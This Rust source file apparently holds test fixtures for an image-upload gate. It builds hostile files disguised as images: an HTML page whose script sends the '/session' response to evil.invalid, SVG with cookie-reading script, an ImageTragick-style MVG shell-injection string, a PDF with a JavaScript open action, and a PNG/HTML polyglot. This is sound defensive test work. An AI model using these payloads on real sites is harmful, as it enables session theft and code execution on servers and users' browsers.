//! Files that are not images, or not only images: what an attacker uploads with an image's
//! name and type. Each is small and real enough that its own format's tools would open it.

use crate::raw::crc32;

/// A web page with a script: served as `image/png` by a careless bucket, it runs.
pub fn html() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>Menu</title></head>\n<body><script>\
      fetch('/session').then(r => r.text()).then(t => new Image().src = '//evil.invalid/?' + t)\
      </script></body></html>\n"
        .to_vec()
}

/// An SVG with a script and an event handler: an "image" that runs code in a browser.
pub fn svg_with_script() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
      <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"256\" height=\"256\" onload=\"alert(document.domain)\">\n\
      <script type=\"text/javascript\">alert(document.cookie)</script>\n\
      <rect width=\"256\" height=\"256\" fill=\"#c33\"/>\n</svg>\n"
        .to_vec()
}

/// An ImageMagick MVG drawing in the shape of CVE-2016-3714 ("ImageTragick"): a URL that
/// breaks out into a shell command when ImageMagick renders it. Inert here: nothing renders it.
pub fn mvg_imagetragick() -> Vec<u8> {
    b"push graphic-context\n\
      viewbox 0 0 640 480\n\
      fill 'url(https://evil.invalid/image.jpg\"|touch \"/tmp/vetted-imagetragick)'\n\
      pop graphic-context\n"
        .to_vec()
}

/// A Windows executable's headers: the MZ stub pointing at a PE signature and a COFF header.
pub fn exe() -> Vec<u8> {
    let mut out = vec![0u8; 0x80];
    out[..2].copy_from_slice(b"MZ");
    // e_lfanew: where the PE header starts.
    out[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    let stub = b"This program cannot be run in DOS mode.\r\r\n$";
    out[0x4E..0x4E + stub.len()].copy_from_slice(stub);
    out.extend(b"PE\0\0");
    out.extend(0x8664u16.to_le_bytes()); // x86-64
    out.extend(0u16.to_le_bytes()); // no sections
    out.extend([0u8; 12]); // time stamp, symbol table, symbol count
    out.extend(0u16.to_le_bytes()); // no optional header
    out.extend(0x0022u16.to_le_bytes()); // executable, large-address aware
    out
}

/// A ZIP archive holding one stored text file.
pub fn zip() -> Vec<u8> {
    let name = b"menu.txt";
    let body = b"Soup of the day: tomato.\n";
    let crc = crc32(body).to_le_bytes();
    let size = u32::try_from(body.len()).expect("small").to_le_bytes();
    let name_len = u16::try_from(name.len()).expect("small").to_le_bytes();

    let mut out = b"PK\x03\x04".to_vec();
    out.extend([20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]); // version, flags, stored, time, date
    out.extend(crc);
    out.extend(size);
    out.extend(size);
    out.extend(name_len);
    out.extend([0, 0]);
    out.extend(name);
    out.extend(body);

    let central_at = u32::try_from(out.len()).expect("small");
    let mut central = b"PK\x01\x02".to_vec();
    central.extend([20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0]);
    central.extend(crc);
    central.extend(size);
    central.extend(size);
    central.extend(name_len);
    central.extend([0; 12]); // extra, comment, disk, attributes
    central.extend(0u32.to_le_bytes()); // local header offset
    central.extend(name);
    let central_len = u32::try_from(central.len()).expect("small");
    out.extend(&central);

    out.extend(b"PK\x05\x06");
    out.extend([0, 0, 0, 0, 1, 0, 1, 0]);
    out.extend(central_len.to_le_bytes());
    out.extend(central_at.to_le_bytes());
    out.extend([0, 0]);
    out
}

/// A one-page PDF with a JavaScript action on open.
pub fn pdf() -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        "<< /S /JavaScript /JS (app.alert('hello')) >>",
    ];
    let mut out = b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{body}\nendobj\n", i + 1).bytes());
    }
    let xref_at = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for offset in offsets {
        out.extend(format!("{offset:010} 00000 n \n").bytes());
    }
    out.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref_at}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    out
}

/// A real PNG with a web page appended after IEND: a polyglot. Image viewers show the PNG;
/// a browser sniffing the content may run the page. The gate accepts it (the header is sound);
/// sanitizing, which re-encodes, is what drops the tail.
pub fn png_with_html_after_iend(width: u32, height: u32) -> Vec<u8> {
    let mut out = crate::images::png(width, height);
    out.extend(html());
    out
}
